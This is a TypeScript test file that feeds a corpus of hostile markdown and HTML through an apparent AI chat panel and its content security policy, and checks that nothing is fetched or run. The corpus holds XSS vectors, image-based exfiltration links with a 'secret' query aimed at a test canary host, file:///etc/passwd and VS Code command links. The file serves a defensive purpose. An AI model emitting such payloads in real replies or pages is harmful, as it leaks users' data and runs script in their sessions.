import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchPanels, type PanelBrowser } from './support/panelPage';
import { type Listening, serveCanary } from './support/servers';
import { conversationView, imageView, load, turnView } from './support/views';

let panels: PanelBrowser;
let canary: Listening;
beforeAll(async () => {
  [panels, canary] = await Promise.all([launchPanels(), serveCanary()]);
});
afterAll(() => Promise.all([panels.close(), canary.close()]));

/** Texts that were used against other chats, and variations of them. */
const corpus = (evil: string): readonly string[] => [
  `![x](${evil}/image.png)`,
  `![x][r]\n\n[r]: ${evil}/reference?d=secret`,
  `![x]\n\n[x]: <${evil}/shortcut> 'title'`,
  `[![x](${evil}/nested.png)](${evil}/outer)`,
  `![a](${evil}/a)![b](${evil}/b)![c](${evil}/c)`,
  `![x](//${evil.replace('http://', '')}/relative)`,
  `![x](data:image/svg+xml,<svg/onload=alert(1)>)`,
  `![x](blob:${evil}/x)`,
  `<img src="${evil}/img" onerror="alert(1)">`,
  `<img srcset="${evil}/srcset 1x">`,
  `<picture><source srcset="${evil}/source"></picture>`,
  `<video poster="${evil}/poster" src="${evil}/video" autoplay></video>`,
  `<audio src="${evil}/audio" autoplay></audio>`,
  `<svg><image href="${evil}/svg"/><script>alert(1)</script></svg>`,
  `<svg/onload=alert(1)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<style>body { background: url(${evil}/style) }</style>`,
  `<link rel="stylesheet" href="${evil}/link"><link rel=prefetch href="${evil}/prefetch">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/meta">`,
  `<base href="${evil}/">`,
  `<iframe src="${evil}/frame" srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="${evil}/object"></object><embed src="${evil}/embed">`,
  `<form action="${evil}/form"><button>Set API Key</button></form>`,
  `<script src="${evil}/script"></script><script>alert(1)</script>`,
  `<a href="javascript:alert(1)" onclick="alert(1)">x</a>`,
  `[x](javascript:alert(1))`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](&#106;avascript:alert(1))`,
  `[x](java&#x0A;script:alert(1))`,
  `<javascript:alert(1)>`,
  `[x](command:workbench.action.terminal.sendSequence?%7B%7D)`,
  `[x](vscode://publisher.name/x) [x](vscode-insiders://x)`,
  `[x](file:///etc/passwd) [x](\\\\host\\share) [x](smb://host/share)`,
  `[x](data:text/html,<script>alert(1)</script>)`,
  `<command:workbench.action.quit> <vscode://x/y> <file:///etc/passwd>`,
  `\`\`\`"onmouseover="alert(1)\n<img src="${evil}/code">\n\`\`\``,
  `\`\`\`<img/src=${evil}/info>\nx\n\`\`\``,
  `| <img src="${evil}/cell"> |\n|---|\n| ![x](${evil}/cell2) |`,
  `# <img src="${evil}/heading">`,
  `- [ ] <img src="${evil}/item">`,
  `\u202Egnp.exe\u202C <b>\u0000</b> \u2066[x](${evil}/bidi)\u2069`,
  `<!-- ${evil} --><![CDATA[<img src=${evil}/cdata>]]><?php ?>`,
  `x\u0000![y](${evil}/nul)`,
  `${'['.repeat(2000)}${'>'.repeat(500)} ${'*'.repeat(3000)} ${'- '.repeat(300)}x`,
];

describe('hostile text', () => {
  test('loads nothing, runs nothing, and becomes only harmless elements', async () => {
    const evil = canary.origin;
    const panel = await panels.open();
    const { page, send } = panel;
    await page.evaluate(() => Object.assign(window, { alert: () => Object.assign(window, { hacked: true }) }));
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    const attacks = corpus(evil);
    for (const [index, text] of attacks.entries()) {
      await send({
        ...load({
          title: text,
          images: [imageView({ name: text, alt: text, source: text, sentLine: text, changes: [text] })],
          turns: [
            turnView({ id: `${index}a`, answer: text }),
            turnView({
              id: `${index}b`,
              question: text,
              taskLabel: undefined,
              from: text,
              answer: text,
              language: text,
              reasoning: text,
              steps: [{ id: '1', title: text, detail: text, state: 'done' }],
              notes: [{ kind: 'warning', text }],
              error: { text, actions: [{ id: text, label: text, primary: true }] },
              actions: [{ id: text, label: text, primary: false }],
              usage: {
                summary: text,
                groups: [{ title: text, rows: [{ label: text, value: text, hint: text }] }],
                raw: text,
              },
            }),
          ],
          target: { providerId: text, provider: text, model: text, host: text, offline: false },
          estimate: text,
        }),
      });
      const drawn = await page.evaluate(() => {
        const known = new Set(
          'A ARTICLE BLOCKQUOTE BODY BR BUTTON CODE DD DETAILS DIV DL DT EM FIGCAPTION FIGURE FOOTER H1 H2 H3 H4 H5 H6 HEADER HR IMG LI MAIN OL P PATH PRE S SECTION SPAN STRONG SUMMARY SVG TABLE TBODY TD TEXTAREA TH THEAD TR UL'.split(
            ' ',
          ),
        );
        const found: string[] = [];
        for (const node of document.body.querySelectorAll('*')) {
          if (!known.has(node.tagName.toUpperCase())) {
            found.push(node.outerHTML);
          }
          for (const { name } of node.attributes) {
            if (/^on|^href$|^srcdoc$|^action$|^xlink/.test(name) || (name === 'src' && node.tagName !== 'IMG')) {
              found.push(`${name} in ${node.outerHTML}`);
            }
          }
          if (node instanceof HTMLImageElement && node.hasAttribute('src') && !node.src.startsWith('blob:')) {
            found.push(node.outerHTML);
          }
        }
        return found;
      });
      expect([text, drawn]).toEqual([text, []]);
    }
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(requests).toEqual([]);
    expect(canary.requests).toEqual([]);
    expect(panel.faults).toEqual([]);
  });

  test('links in it send only web addresses to the host, and nothing by themselves', async () => {
    const { page, send, intents } = await panels.open();
    await send(load({ turns: corpus(canary.origin).map((answer, index) => turnView({ id: `${index}`, answer })) }));
    const before = (await intents()).length;
    expect(before).toBe(1);
    const links = await page.locator('.markdown [role=link], .markdown .refusedLink').all();
    expect(links.length).toBeGreaterThan(20);
    await page.evaluate(() => {
      for (const node of document.querySelectorAll<HTMLElement>('.markdown [role=link], .markdown .refusedLink')) {
        node.click();
        node.dispatchEvent(new MouseEvent('auxclick', { button: 1, bubbles: true }));
      }
    });
    const opened = (await intents()).slice(1);
    expect(opened.length).toBeGreaterThan(5);
    const wrong = opened.filter((one) => one.type !== 'openLink' || !/^https?:\/\//.test(one.href));
    expect(wrong).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
    expect(canary.requests).toEqual([]);
  });

  test('the same from history: nothing is fetched when a conversation is drawn again', async () => {
    const { page, send, faults } = await panels.open();
    const turns = corpus(canary.origin).map((answer, index) => turnView({ id: `${index}`, answer }));
    await send(load({ turns }));
    await page.reload();
    await send(load({ turns }));
    await send({ type: 'update', conversation: conversationView({ turns }) });
    expect(canary.requests).toEqual([]);
    expect(faults).toEqual([]);
  });
});

describe('the policy itself', () => {
  test('stops what a hole in the drawing would let through', async () => {
    const { page, send } = await panels.open();
    await send(load());
    const evil = canary.origin;
    const directives = [
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'require-trusted-types-for',
      'trusted-types',
    ];
    const wanted = { origin: evil, count: directives.length };
    const result = await page.evaluate(async ({ origin, count }) => {
      const violated = new Set<string>();
      document.addEventListener('securitypolicyviolation', (event) => violated.add(event.effectiveDirective));
      const outcome: string[] = [];
      const attempt = async (name: string, act: () => unknown) => {
        try {
          await act();
          outcome.push(`${name}: done`);
        } catch (error) {
          outcome.push(`${name}: ${(error as Error).name}`);
        }
      };
      await attempt('innerHTML', () => {
        document.createElement('div').innerHTML = '<img>';
      });
      await attempt('script', () => {
        document.createElement('script').textContent = 'alert(1)';
      });
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): object };
      };
      await attempt('policy', () => trustedTypes.createPolicy('mine', {}));
      await attempt('default policy', () => trustedTypes.createPolicy('default', {}));
      await attempt('fetch', () => fetch(`${origin}/fetch`));
      await attempt('image', () => {
        document.body.append(Object.assign(new Image(), { src: `${origin}/image` }));
      });
      await attempt('form', () => {
        const form = Object.assign(document.createElement('form'), { action: `${origin}/form` });
        document.body.append(form);
        form.submit();
      });
      await attempt('frame', () => {
        document.body.append(Object.assign(document.createElement('iframe'), { src: `${origin}/frame` }));
      });
      // A form and a frame are stopped on their way, some time after they were asked for.
      for (let waits = 0; waits < 300 && violated.size < count; waits++) {
        await new Promise((done) => setTimeout(done, 100));
      }
      return { violated: [...violated].sort(), outcome };
    }, wanted);
    expect(result.outcome.slice(0, 5)).toEqual([
      'innerHTML: TypeError',
      'script: TypeError',
      'policy: TypeError',
      'default policy: TypeError',
      'fetch: TypeError',
    ]);
    expect(result.violated).toEqual(directives);
    expect(canary.requests).toEqual([]);
  });

  test('a canary would sing: the same addresses are heard from a page without a policy', async () => {
    const { page } = await panels.open();
    await page.goto(`${canary.origin}/page`);
    expect(canary.requests.length).toBeGreaterThan(0);
  });
});
